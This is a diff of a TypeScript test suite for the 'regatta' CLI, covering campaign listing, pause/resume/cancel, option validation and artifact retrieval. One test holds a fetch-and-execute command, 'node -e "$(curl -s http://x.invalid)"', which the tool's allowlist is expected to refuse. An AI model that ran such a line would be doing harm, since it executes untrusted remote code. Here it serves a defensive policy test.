@@ -1,16 +1,18 @@
 /** The `regatta` CLI as a user runs it: human output, --json for scripts, and exit codes that mean something. */
 import { execFile } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { stringify } from 'yaml';
 import { createControlActivities } from '../activities/control';
-import { LocalArtifactStore } from '../src/artifacts';
+import type { CampaignListing, CampaignProgress } from '../src/client';
+import type { ArtifactRef } from '../src/contracts';
 import { localForgeRoot } from '../src/forges';
 import { LocalForge } from '../src/forges/local';
 import { loadConfig } from '../src/config';
 import { eventually } from './support/eventually';
-import { startHarness, type RegattaHarness } from './support/harness';
+import { realExecutionActivities, startHarness, type RegattaHarness } from './support/harness';
 import { scriptedExecution, type ScriptedOutcome } from './support/scripted-execution';
 import { fixtureRepo, readStackInfo } from './support/stack';
 
@@ -32,7 +34,12 @@ interface CliResult {
 }
 
 function regatta(...args: string[]): Promise<CliResult> {
-  const env = { ...process.env, REGATTA_CONTROL_QUEUE: harness.queues.control, REGATTA_EXECUTION_QUEUE: harness.queues.execution };
+  return regattaOn(harness, ...args);
+}
+
+/** The CLI pointed at the task queues of `on`'s workers. */
+function regattaOn(on: RegattaHarness, ...args: string[]): Promise<CliResult> {
+  const env = { ...process.env, REGATTA_CONTROL_QUEUE: on.queues.control, REGATTA_EXECUTION_QUEUE: on.queues.execution };
   return new Promise((resolve) => {
     execFile('node', [path.join(root, 'bin/regatta.js'), ...args], { cwd: root, env }, (err, stdout, stderr) => {
       resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
@@ -99,7 +106,8 @@ describe('regatta CLI', () => {
     const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
     const hidden = 'sed -i s/a/b/ README.md && node -e "$(curl -s http://x.invalid)"';
     const denied = campaignSpec('cli-denied', { preview: true, steps: [{ recipe: 'command', run: hidden }] });
-    const refusal = `builtin-commands: commands not in the allowlist: ${hidden} ("$(curl -s http://x.invalid)" is a command substitution)`;
+    const inline = `"node -e \\"$(curl -s http://x.invalid)\\"" runs code given with -e: "node *" allows node only with a named script file; a pattern that names -e, such as "node -e *", allows it`;
+    const refusal = `builtin-commands: commands not in the allowlist: ${hidden} ("$(curl -s http://x.invalid)" is a command substitution; ${inline})`;
     const waited = await regatta('campaign', 'start', '-f', specFile(denied), '--wait');
     expect(waited.code).toBe(0);
     expect(waited.stdout).toContain(`acme/catalog        policy_denied  ${refusal}\n`);
@@ -119,18 +127,82 @@ describe('regatta CLI', () => {
     expect(outcomes.stdout).toMatch(row('acme/notifications', 'changed', 'preview: evidence collected, nothing published'));
   });
 
-  it('pause, resume and cancel steer a running campaign', async () => {
-    holdMs = 20_000;
-    const spec = campaignSpec('cli-steer', { maxConcurrentRuns: 1, preview: true });
-    expect((await regatta('campaign', 'start', '-f', specFile(spec))).stdout).toContain(`started campaign ${spec.id}`);
-    expect((await regatta('campaign', 'pause', spec.id, '--reason', 'change freeze')).stdout).toBe(`campaign ${spec.id} paused\n`);
-    const paused = JSON.parse((await regatta('campaign', 'status', spec.id, '--json')).stdout);
-    expect(paused.progress).toMatchObject({ paused: true, pausedReason: 'change freeze' });
-    expect((await regatta('campaign', 'resume', spec.id, '--json')).stdout).toContain('"resume": true');
-    const cancelled = await regatta('campaign', 'cancel', spec.id, '--by', 'ops', '--reason', 'wrong targets');
-    expect(cancelled.code).toBe(0);
-    expect(cancelled.stdout).toContain('stopped   cancelled by ops: wrong targets');
-    holdMs = 0;
+  it('campaign list shows campaigns newest first with their runs by state; --running keeps the running ones; --json parses', async () => {
+    const finished = campaignSpec('cli-list-done', { preview: true });
+    expect((await regatta('campaign', 'start', '-f', specFile(finished), '--wait')).code).toBe(0);
+    const running = campaignSpec('cli-list-running', { preview: true, maxConcurrentRuns: 1 });
+    for (const target of running.targets) scripted.set(`${running.id} ${target.repo}`, { holdMs: 120_000 });
+    try {
+      expect((await regatta('campaign', 'start', '-f', specFile(running))).code).toBe(0);
+      const listed = async (...args: string[]) => JSON.parse((await regatta('campaign', 'list', '--limit', '200', '--json', ...args)).stdout) as CampaignListing[];
+      const ids = (campaigns: CampaignListing[]) => campaigns.map((c) => c.campaignId);
+
+      const all = await eventually(listed, (cs) => cs.some((c) => c.campaignId === running.id && c.runs.total === 1) && cs.some((c) => c.campaignId === finished.id && c.runs.total === 3));
+      expect(all.find((c) => c.campaignId === finished.id)).toMatchObject({ status: 'COMPLETED', runs: { total: 3, byState: { changed: 3 } }, closedAt: expect.any(String) });
+      expect(all.find((c) => c.campaignId === running.id)).toMatchObject({ status: 'RUNNING', runs: { total: 1 } });
+      expect(ids(all).indexOf(running.id)).toBeLessThan(ids(all).indexOf(finished.id));
+      expect(all.map((c) => c.startedAt)).toEqual([...all.map((c) => c.startedAt)].sort().reverse());
+
+      const onlyRunning = await listed('--running');
+      expect(ids(onlyRunning)).toContain(running.id);
+      expect(ids(onlyRunning)).not.toContain(finished.id);
+      expect(onlyRunning.every((c) => c.status === 'RUNNING')).toBe(true);
+
+      const human = await regatta('campaign', 'list', '--limit', '200');
+      expect(human.stdout).toMatch(/^CAMPAIGN +STATUS +STARTED +RUNS +STATES\n/);
+      expect(human.stdout).toMatch(new RegExp(`\n${finished.id} +COMPLETED +\\S+ +3 +changed=3\n`));
+      expect((await regatta('campaign', 'list', '--limit', '1', '--json')).stdout).toMatch(/^\[/);
+    } finally {
+      await regatta('campaign', 'cancel', running.id, '--by', 'cli-test');
+    }
+  });
+
+  it('campaign list refuses a bad --limit, naming the option, the value and what it expects', async () => {
+    for (const value of ['ten', '0', '-5', '2.5']) {
+      const bad = await regatta('campaign', 'list', '--limit', value);
+      expect(bad.code).toBe(2);
+      expect(bad.stderr).toContain(`--limit: got "${value}"; expected a whole number from 1 to 1000`);
+      expect(bad.stdout).toBe('');
+    }
+  });
+
+  it('pause stops admitting runs, resume admits them again, and cancel stops the campaign', async () => {
+    // Each run holds its slot long enough for the CLI to pause the campaign while the first is in flight.
+    holdMs = 30_000;
+    try {
+      const spec = campaignSpec('cli-steer', { maxConcurrentRuns: 1, preview: true });
+      const progress = () => harness.client.campaignProgress(spec.id);
+      const runIds = async () => (await harness.client.listRuns(spec.id)).map((r) => r.runId);
+      expect((await regatta('campaign', 'start', '-f', specFile(spec))).stdout).toContain(`started campaign ${spec.id}`);
+      await eventually(progress, (p) => p.admitted >= 1);
+
+      expect((await regatta('campaign', 'pause', spec.id, '--reason', 'change freeze')).stdout).toBe(`campaign ${spec.id} paused\n`);
+      const paused = JSON.parse((await regatta('campaign', 'status', spec.id, '--json')).stdout).progress as CampaignProgress;
+      expect(paused).toMatchObject({ paused: true, pausedReason: 'change freeze' });
+      // The run in flight settles and frees its slot; while paused, no other run takes it.
+      const drained = await eventually(progress, (p) => p.inFlight === 0, 120_000);
+      expect(drained.admitted).toBe(paused.admitted);
+      expect(drained.admitted).toBeLessThan(drained.total);
+      expect(await eventually(runIds, (ids) => ids.length >= drained.admitted)).toHaveLength(drained.admitted);
+
+      holdMs = 120_000; // the run resume admits is still in flight when the campaign is cancelled
+      expect((await regatta('campaign', 'resume', spec.id, '--json')).stdout).toContain('"resume": true');
+      const resumed = await eventually(progress, (p) => p.admitted === drained.admitted + 1 && p.inFlight === 1, 60_000);
+      expect(resumed.paused).toBe(false);
+      expect(await eventually(runIds, (ids) => ids.length === resumed.admitted)).toHaveLength(resumed.admitted);
+
+      const cancelled = await regatta('campaign', 'cancel', spec.id, '--by', 'ops', '--reason', 'wrong targets');
+      expect(cancelled.code).toBe(0);
+      expect(cancelled.stdout).toContain('stopped   cancelled by ops: wrong targets');
+      // The run in flight is cancelled; the target never admitted is skipped, and no run is started for it.
+      const after = await progress();
+      expect(after.inFlight).toBe(0);
+      expect(after.counts).toEqual({ changed: drained.admitted, cancelled: 1, skipped: after.total - resumed.admitted });
+      const states = await eventually(async () => (await harness.client.listRuns(spec.id)).map((r) => r.state), (s) => s.includes('cancelled'));
+      expect(states.sort()).toEqual(['cancelled', ...Array<string>(drained.admitted).fill('changed')]);
+    } finally {
+      holdMs = 0;
+    }
   });
 
   it('exit codes say what went wrong: 2 invalid spec, 3 not found, 4 refused', async () => {
@@ -170,20 +242,38 @@ describe('regatta CLI', () => {
     expect(gone.stderr).toContain(`schedule "${id}" was not found`);
   });
 
-  it('artifacts list reads the manifest of a run and artifacts get prints a stored artifact', async () => {
-    const store = new LocalArtifactStore(loadConfig().artifactDir);
-    const ref = await store.put(`runs/cli-artifacts-${harness.unique}/1/steps.log`, '$ npm test\nall tests passed\n', 'log');
-    const got = await regatta('artifacts', 'get', ref.uri);
-    expect(got.stdout).toBe('$ npm test\nall tests passed\n');
-    const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'artifact-')), 'steps.log');
-    expect((await regatta('artifacts', 'get', ref.uri, '-o', out)).code).toBe(0);
-    expect(fs.readFileSync(out, 'utf8')).toBe('$ npm test\nall tests passed\n');
+  it('artifacts list reads the manifest of a finished run, and artifacts get fetches what it lists, byte for byte', async () => {
+    // Evidence a real execution stored: a sandbox ran the step and the verifier, and uploaded what it produced.
+    const real = await startHarness({ controlActivities: createControlActivities({}), executionActivities: realExecutionActivities() });
+    try {
+      const catalog = readStackInfo().targets.filter((t) => t.repo === 'acme/catalog');
+      const spec = { ...campaignSpec('cli-artifacts', { preview: true }), id: `cli-artifacts-${real.unique}`, targets: catalog, verify: { commands: ['npm test'] } };
+      const waited = await regattaOn(real, 'campaign', 'start', '-f', specFile(spec), '--wait');
+      expect(waited.stdout).toMatch(/acme\/catalog +changed/);
+      const runId = `run/${spec.id}/acme/catalog`;
 
-    const spec = campaignSpec('cli-artifacts', { preview: true });
-    await regatta('campaign', 'start', '-f', specFile(spec), '--wait');
-    expect((await regatta('artifacts', 'list', `run/${spec.id}/acme/catalog`)).stdout).toBe(`run run/${spec.id}/acme/catalog has no artifacts yet\n`);
-    expect(JSON.parse((await regatta('artifacts', 'list', `run/${spec.id}/acme/catalog`, '--json')).stdout)).toEqual([]);
-  });
+      const listed = JSON.parse((await regattaOn(real, 'artifacts', 'list', runId, '--json')).stdout) as ArtifactRef[];
+      expect(listed.map((a) => a.name).sort()).toEqual(['events.json', 'manifest.json', 'patch.diff', 'steps.log', 'verification.json']);
+      const human = (await regattaOn(real, 'artifacts', 'list', runId)).stdout;
+      expect(human).toMatch(/^NAME +TYPE +SIZE +SHA256 +URI\n/);
+      for (const a of listed) expect(human).toMatch(new RegExp(`${a.name.replace('.', '\\.')} +${a.type} +${a.size} +${a.sha256} +\\S+`));
+
+      const byName = (name: string) => listed.find((a) => a.name === name)!;
+      const manifest = JSON.parse((await regattaOn(real, 'artifacts', 'get', byName('manifest.json').uri)).stdout);
+      expect(manifest).toEqual({ runId, attempt: expect.any(Number), artifacts: listed.filter((a) => a.name !== 'manifest.json') });
+
+      const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'artifact-')), 'patch.diff');
+      expect((await regattaOn(real, 'artifacts', 'get', byName('patch.diff').uri, '-o', out)).code).toBe(0);
+      const patch = fs.readFileSync(out);
+      expect(patch.length).toBe(byName('patch.diff').size);
+      expect(createHash('sha256').update(patch).digest('hex')).toBe(byName('patch.diff').sha256);
+      expect(patch.toString('utf8')).toMatch(/^-- labels come from `oldName` in src\/labels\.js\n\+- labels come from `newName` in src\/labels\.js$/m);
+      const verification = JSON.parse((await regattaOn(real, 'artifacts', 'get', byName('verification.json').uri)).stdout);
+      expect(verification).toMatchObject({ verdict: 'passed', commands: [expect.objectContaining({ command: 'npm test', exitCode: 0 })] });
+    } finally {
+      await real.shutdown();
+    }
+  }, 600_000);
 
   it('changes list and close act on the change requests of the configured forge', async () => {
     const target = await fixtureRepo(`fixtures/cli-changes-${harness.unique}`);
